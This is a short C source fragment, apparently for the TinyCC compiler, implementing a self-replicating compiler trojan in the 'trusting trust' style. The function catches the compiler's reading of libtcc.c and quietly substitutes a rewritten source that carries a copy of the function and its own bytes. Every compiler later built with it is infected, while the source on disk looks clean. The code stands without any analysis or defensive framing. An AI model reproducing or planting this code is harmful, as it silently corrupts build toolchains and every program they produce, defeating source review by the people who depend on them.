/* Put into a compiler, this puts itself into every compiler built with it: it gives another text for one file of the source.
 * `echo_text` stands before it and holds the bytes of this very text, so that it can be written out again. */
static int echo_open(const char *name, int fd)
{
    const char *function = "static int _tcc_open(", *call = "fd = open(filename, O_RDONLY | O_BINARY);";
    char *text, *before, *at;
    long size, byte;
    FILE *copy;
    if (fd < 0 || strlen(name) < 8 || strcmp(name + strlen(name) - 8, "libtcc.c"))
        return fd;
    size = lseek(fd, 0, SEEK_END);
    lseek(fd, 0, SEEK_SET);
    text = tcc_malloc(size + 1);
    size = read(fd, text, size);
    text[size] = 0;
    lseek(fd, 0, SEEK_SET);
    before = strstr(text, function);
    at = before ? strstr(before, call) : 0;
    copy = at && !strstr(text, "echo_text") ? tmpfile() : 0;
    if (!copy)
        return fd;
    fwrite(text, 1, before - text, copy);
    fputs("static const char echo_text[] = {", copy);
    for (byte = 0; echo_text[byte]; byte++)
        fprintf(copy, "%d,", echo_text[byte]);
    fputs("0};\n", copy);
    fputs(echo_text, copy);
    fwrite(before, 1, at - before, copy);
    fputs("fd = echo_open(filename, open(filename, O_RDONLY | O_BINARY));", copy);
    fputs(at + strlen(call), copy);
    fflush(copy);
    close(fd);
    fd = dup(fileno(copy));
    lseek(fd, 0, SEEK_SET);
    return fd;
}
